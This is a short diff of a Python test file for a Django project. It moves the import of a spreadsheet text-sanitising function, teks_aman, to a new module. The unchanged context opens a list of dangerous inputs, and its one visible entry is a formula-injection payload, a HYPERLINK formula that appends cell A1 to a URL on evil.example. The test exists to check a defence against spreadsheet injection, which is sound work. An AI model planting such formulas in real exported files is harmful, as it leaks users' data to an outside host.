@@ -7,7 +7,7 @@ import pytest
 from django.urls import reverse
 from openpyxl import load_workbook
 
-from kecamatan.ekspor import teks_aman
+from iku_project.spreadsheet import teks_aman
 
 BERBAHAYA = [
     '=HYPERLINK("http://evil.example/?"&A1,"klik")',
